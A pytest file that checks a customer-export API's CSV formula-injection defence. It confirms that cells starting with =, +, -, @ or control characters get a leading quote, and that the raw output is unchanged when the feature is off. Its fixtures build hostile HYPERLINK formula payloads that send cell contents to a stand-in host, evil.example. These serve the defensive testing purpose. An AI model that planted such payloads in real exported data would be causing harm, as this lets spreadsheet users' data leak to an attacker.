"""CSV export safety (docs/decisions.md#d46): no cell starts like a spreadsheet formula, unless
`export_neutralize_formulas` is off, which gives the hosted API's exact bytes."""

import csv
import io
import json
import random
import uuid
from collections.abc import AsyncIterator, Sequence
from datetime import UTC, datetime
from typing import Any

import httpx
import pytest
from sqlalchemy.ext.asyncio import AsyncSession

from polar_customers.config import Settings
from polar_customers.customers.export import CSV_HEADER, FORMULA_STARTS, csv_row, csv_text
from polar_customers.models import Customer, Organization
from tests.conftest import AppFactory
from tests.factories import create_customer

URL = "/v1/customers/export"
HEADER = ",".join(CSV_HEADER) + "\r\n"
# OWASP's list: equals, plus, minus, at, tab, carriage return, line feed.
TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "\n"]
# The free-text fields and their columns.
TEXT_COLUMNS = {
    "external_id": "External ID",
    "email": "Email",
    "name": "Name",
    "line1": "Billing Address Line 1",
    "line2": "Billing Address Line 2",
    "city": "Billing Address City",
    "state": "Billing Address State",
    "postal_code": "Billing Address Zip",
}
ADDRESS_FIELDS = ("line1", "line2", "city", "state", "postal_code", "country")


@pytest.fixture
async def raw_client(app_with: AppFactory) -> AsyncIterator[httpx.AsyncClient]:
    """A client of an application with `export_neutralize_formulas` off."""
    transport = httpx.ASGITransport(app=app_with(export_neutralize_formulas=False))
    async with httpx.AsyncClient(transport=transport, base_url="http://testserver") as client:
        yield client


def test_neutralizing_is_on_by_default(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("POLAR_CUSTOMERS_EXPORT_NEUTRALIZE_FORMULAS", raising=False)
    assert Settings().export_neutralize_formulas is True
    monkeypatch.setenv("POLAR_CUSTOMERS_EXPORT_NEUTRALIZE_FORMULAS", "false")
    assert Settings().export_neutralize_formulas is False


def _payload(trigger: str, column: str) -> str:
    """A hostile value for `column`, starting with `trigger`; commas and quotes make the CSV
    writer quote it, as a real attack would."""
    return f'{trigger}HYPERLINK("https://evil.example/?"&A1,"{column}")'


async def _hostile_customer(
    session: AsyncSession, organization: Organization, trigger: str
) -> Customer:
    """A customer whose every free-text field, tax id and metadata value starts with
    `trigger`."""
    values = {column: _payload(trigger, column) for column in TEXT_COLUMNS}
    return await create_customer(
        session,
        organization=organization,
        external_id=values["external_id"],
        email=values["email"],
        name=values["name"],
        billing_address={field: values.get(field) for field in ADDRESS_FIELDS} | {"country": "US"},
        tax_id=[_payload(trigger, "tax_id"), "us_ein"],
        metadata={"note": _payload(trigger, "metadata"), "n": -1},
    )


def _rows(body: str) -> dict[str, list[str]]:
    """The export's data rows by customer id, after checking its header."""
    assert body.startswith(HEADER)
    rows = list(csv.reader(io.StringIO(body.removeprefix(HEADER), newline="")))
    return {row[0]: row for row in rows}


@pytest.mark.parametrize("trigger", TRIGGERS, ids=repr)
async def test_every_cell_starting_like_a_formula_is_neutralized(
    client: httpx.AsyncClient,
    raw_client: httpx.AsyncClient,
    session: AsyncSession,
    organization: Organization,
    headers: dict[str, str],
    trigger: str,
) -> None:
    customer = await _hostile_customer(session, organization, trigger)
    plain = await create_customer(session, organization=organization, name="Jane -- Doe")

    safe = await client.get(URL, headers=headers)
    raw = await raw_client.get(URL, headers=headers)
    assert safe.status_code == raw.status_code == 200
    safe_rows, raw_rows = _rows(safe.text), _rows(raw.text)

    hostile = dict(zip(CSV_HEADER, safe_rows[str(customer.id)], strict=True))
    for column, header in TEXT_COLUMNS.items():
        assert hostile[header] == "'" + _payload(trigger, column), header
    # Tax id and metadata cells start with `[` and `{`: their values are inside, left as is.
    assert hostile["Tax ID"] == repr([_payload(trigger, "tax_id"), "us_ein"])
    assert json.loads(hostile["Metadata"]) == {"note": _payload(trigger, "metadata"), "n": -1}
    for row in safe_rows.values():
        assert not any(cell[:1] in FORMULA_STARTS for cell in row), row

    # Off: the values as stored, the customer without any trigger the same either way.
    unsafe = dict(zip(CSV_HEADER, raw_rows[str(customer.id)], strict=True))
    assert [unsafe[header] for header in ("External ID", "Email", "Name")] == [
        customer.external_id,
        customer.email,
        customer.name,
    ]
    assert unsafe["Billing Address Line 1"] == _payload(trigger, "line1")
    assert safe_rows[str(plain.id)] == raw_rows[str(plain.id)]
    assert safe_rows.keys() == raw_rows.keys()


async def test_off_gives_the_hosted_apis_bytes(
    client: httpx.AsyncClient,
    raw_client: httpx.AsyncClient,
    session: AsyncSession,
    organization: Organization,
    headers: dict[str, str],
) -> None:
    """Byte for byte what the export wrote before neutralizing existed; on, the same cells
    with a quote in front."""
    customer = await create_customer(
        session,
        organization=organization,
        email="-x@example.com",
        external_id="=1+2",
        name='=HYPERLINK("https://evil.example","x")',
        created_at=datetime(2025, 10, 5, 12, 0, 0, 123456, tzinfo=UTC),
        billing_address={"line1": "@SUM(A1)", "line2": "\tx", "city": "+1", "country": "US"},
        metadata={"a": "=1"},
    )
    hosted = (
        f"{customer.id},=1+2,2025-10-05T12:00:00.123456+00:00,-x@example.com,"
        '"=HYPERLINK(""https://evil.example"",""x"")",,@SUM(A1),\tx,+1,,,US,'
        '"{""a"": ""=1""}"\r\n'
    )
    neutralized = (
        f"{customer.id},'=1+2,2025-10-05T12:00:00.123456+00:00,'-x@example.com,"
        '"\'=HYPERLINK(""https://evil.example"",""x"")",,\'@SUM(A1),\'\tx,\'+1,,,US,'
        '"{""a"": ""=1""}"\r\n'
    )
    raw = await raw_client.get(URL, headers=headers)
    safe = await client.get(URL, headers=headers)
    assert raw.content == (HEADER + hosted).encode()
    assert safe.content == (HEADER + neutralized).encode()
    assert raw.headers["content-type"] == safe.headers["content-type"]


# The check of the written text -----------------------------------------------------------


CELLS_BUT_TAX_ID = [position for position in range(len(CSV_HEADER)) if position != 5]


def _row(cells: Sequence[str | None]) -> tuple[Any, ...]:
    """A row of `repository.CSV_COLUMNS` from the 13 cells it should render to (tax id left
    empty: its cell is a list's repr, never a formula)."""
    id, external_id, created_at, email, name, _tax, *address, metadata = cells
    return (id, external_id, created_at, email, name, None, None, *address, metadata)


def _one_by_one(batch: list[tuple[Any, ...]]) -> str:
    """What neutralizing gives when every cell is looked at."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for row in batch:
        writer.writerow(
            [f"'{cell}" if cell[:1] in FORMULA_STARTS else cell for cell in csv_row(row)]
        )
    return buffer.getvalue()


@pytest.mark.parametrize("position", CELLS_BUT_TAX_ID)
@pytest.mark.parametrize("trigger", TRIGGERS, ids=repr)
def test_a_formula_in_any_column_and_row_is_found(position: int, trigger: str) -> None:
    """Also in the columns the database fills (id, creation time): whatever a row holds."""
    cells: list[str | None] = [str(uuid.uuid4()), "ext", "2025-10-05T12:00:00+00:00"]
    cells += ["a@example.com", "Name", None, "1 Main St", None, "City", "CA", "9", "US", None]
    batch = [_row(list(cells)) for _ in range(3)]
    cells[position] = f"{trigger}1+2"
    batch.append(_row(cells))
    text = csv_text(batch, neutralize_formulas=True)
    assert text == _one_by_one(batch)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 4
    assert rows[-1][position] == f"'{trigger}1+2"
    raw = list(csv.reader(io.StringIO(csv_text(batch, neutralize_formulas=False), newline="")))
    assert raw[:3] == rows[:3]
    assert raw[-1][position] == f"{trigger}1+2"


def test_random_cells_are_neutralized_exactly_when_needed() -> None:
    """Cells of separators, quotes, line breaks and formula characters inside, and at most one
    cell of the batch starting with a formula character: the quick check of the written text
    never misses a cell that neutralizing one by one changes."""
    generator = random.Random(46)
    inside = [*TRIGGERS, ",", '"', "'", ";", " ", "a", "\r\n"]

    def cell() -> str:
        text = "".join(generator.choices(inside, k=generator.randint(0, 4)))
        return text if text[:1] not in FORMULA_STARTS else f"a{text}"

    for _ in range(3000):
        cells = [[cell() for _ in range(13)] for _ in range(generator.randint(1, 3))]
        if generator.random() < 0.8:
            row, column = generator.randrange(len(cells)), generator.choice(CELLS_BUT_TAX_ID)
            cells[row][column] = generator.choice(TRIGGERS) + cells[row][column]
        batch = [_row(row) for row in cells]
        assert csv_text(batch, neutralize_formulas=True) == _one_by_one(batch), batch
